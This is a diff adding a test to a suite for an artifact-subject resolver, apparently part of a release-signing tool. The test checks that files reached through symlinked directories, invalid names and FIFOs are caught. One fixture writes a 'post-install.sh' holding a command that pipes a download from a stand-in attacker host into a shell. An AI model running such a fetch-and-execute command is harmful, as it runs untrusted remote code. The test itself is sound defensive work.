@@ -169,4 +169,39 @@ describe('what ships beside the subjects', () => {
     );
     expect((await failure(checksums('ship/SUMS')))?.code).toBe('SUBJECT_NAME_INVALID');
   });
+
+  // Behind a link to a directory, the glob library's listing skips what it cannot read or takes for a loop (a link
+  // whose target's name starts with another's: `a/more -> ab`), so `PATTERN/**` judged nothing there; the walk now goes
+  // through links to directories, and every file it finds there must be a subject.
+  it('walks through a link to a directory: a file the glob library skipped, an invalid name, a FIFO there stop the stage', async () => {
+    rmSync(join(workspace, 'artifacts', 'payload'), { recursive: true });
+    const outside = mkdtempSync(join(tmpdir(), 'twokey-subjects-outside-'));
+    try {
+      mkdirSync(join(outside, 'a'));
+      mkdirSync(join(outside, 'ab'));
+      writeFileSync(join(outside, 'ab', 'post-install.sh'), 'curl https://evil.example | sh\n');
+      symlinkSync(join(outside, 'a'), join(workspace, 'artifacts', 'payload'));
+      symlinkSync(join(outside, 'ab'), join(outside, 'a', 'more'));
+      for (const pattern of ['artifacts/*', 'artifacts/**']) {
+        const error = await failure(resolve(pattern));
+        expect(error?.code, pattern).toBe('SUBJECT_DIRECTORY');
+        expect(error?.message).toContain(
+          'artifacts/payload/more/post-install.sh, in a directory reached through a link',
+        );
+      }
+      rmSync(join(outside, 'a', 'more'));
+      const raw = Buffer.concat([Buffer.from(join(outside, 'a', 'x')), Buffer.of(0xff)]);
+      mkdirSync(raw);
+      expect((await failure(resolve('artifacts/**')))?.code).toBe('SUBJECT_NAME_INVALID');
+      rmSync(raw, { recursive: true });
+      execFileSync('mkfifo', [join(outside, 'a', 'fifo')]);
+      expect((await failure(resolve('artifacts/**')))?.code).toBe('SUBJECT_UNREADABLE');
+      rmSync(join(outside, 'a', 'fifo'));
+      // What is left behind the link is judged as before: its files subjects, the link accepted.
+      writeFileSync(join(outside, 'a', 'lib.so'), 'lib\n');
+      expect((await resolve('artifacts/**')).map((s) => s.name).sort()).toEqual(['app.tar.gz', 'lib.so']);
+    } finally {
+      rmSync(outside, { recursive: true, force: true });
+    }
+  });
 });
